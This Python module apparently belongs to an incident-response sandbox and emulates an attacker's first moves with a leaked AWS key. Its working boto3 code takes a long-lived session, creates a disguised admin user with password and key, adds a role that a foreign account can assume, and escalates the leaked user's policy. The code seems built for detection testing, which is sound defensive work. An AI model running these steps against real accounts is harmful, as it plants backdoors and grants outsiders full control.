"""At AWS: what attackers do in their first minutes with a key that may do too much.

https://docs.aws.amazon.com/security-ir/latest/userguide/
"""

import json
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from responder.sandbox.attack.loot import Left, Loot

if TYPE_CHECKING:
    from collections.abc import Mapping

FOREIGN_ACCOUNT = "999988887777"
FAR_AWAY = "ap-southeast-2"  # a region that nobody here works in
_AGENT = "aws-cli/2.15.30 Python/3.11.8 Linux/5.15 exe/x86_64.kali.2024"
_EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)


def take_session(loot: Loot) -> Iterable[Left]:
    """A session outlives the key that it was got with."""
    got = _client(loot, "sts", FAR_AWAY).get_session_token(DurationSeconds=36 * 3600)["Credentials"]
    inside = _client(loot, "s3", credentials=got)
    inside.list_buckets()
    yield Left("aws.session-taken", got["AccessKeyId"])


def make_user(loot: Loot) -> Iterable[Left]:
    """With a key, a password and every right."""
    iam = _client(loot, "iam")
    name = loot.name("backup", "support", "monitoring")
    iam.create_user(UserName=name)
    iam.put_user_policy(UserName=name, PolicyName="access", PolicyDocument=_EVERYTHING)
    iam.create_login_profile(UserName=name, Password="Sommer-2026-" + str(loot.names.randrange(10**6)))
    key = iam.create_access_key(UserName=name)["AccessKey"]
    yield Left("aws.user-created", name)
    yield Left("aws.key-created", key["AccessKeyId"], of=name)
    yield from _go_on(loot, key)


def _go_on(loot: Loot, key: "Mapping[str, Any]") -> Iterable[Left]:
    """With the fresh key: what it does is the leaked key's doing too."""
    mine = {"AccessKeyId": key["AccessKeyId"], "SecretAccessKey": key["SecretAccessKey"]}
    role = loot.name("OrganizationAccess", "AuditReader")
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"},
                "Action": "sts:AssumeRole",
            }
        ],
    }
    iam = _client(loot, "iam", credentials=mine)
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=json.dumps(trust))
    iam.put_role_policy(RoleName=role, PolicyName="access", PolicyDocument=_EVERYTHING)
    yield Left("aws.role-created", role)


def widen_the_leaked_user(loot: Loot) -> Iterable[Left]:
    iam = _client(loot, "iam")
    user = iam.get_user()["User"]["UserName"]
    iam.put_user_policy(UserName=user, PolicyName="tmp", PolicyDocument=_EVERYTHING)
    yield Left("aws.policy-put", "tmp", of=user)


DEEDS = (take_session, make_user, widen_the_leaked_user)


def _client(
    loot: Loot, service: str, region: str = "us-east-1", credentials: "Mapping[str, Any] | None" = None
) -> Any:  # noqa: ANN401 - boto3's clients are made at run time
    import botocore.session  # noqa: PLC0415  # only where there is an attack
    from boto3.session import Session  # noqa: PLC0415
    from botocore.config import Config  # noqa: PLC0415

    own = credentials or {}
    core = botocore.session.Session()
    core.set_config_variable("config_file", "/nonexistent")  # nobody's own settings are read
    return Session(botocore_session=core).client(
        service,  # type: ignore[call-overload]  # one of several
        region_name=region,
        endpoint_url=loot.urls["aws"],
        aws_access_key_id=own.get("AccessKeyId", loot.credentials["AWS_ACCESS_KEY_ID"]),
        aws_secret_access_key=own.get("SecretAccessKey", loot.credentials["AWS_SECRET_ACCESS_KEY"]),
        aws_session_token=own.get("SessionToken"),
        config=Config(user_agent=_AGENT, proxies={}),  # none of whoever is at the keyboard
    )
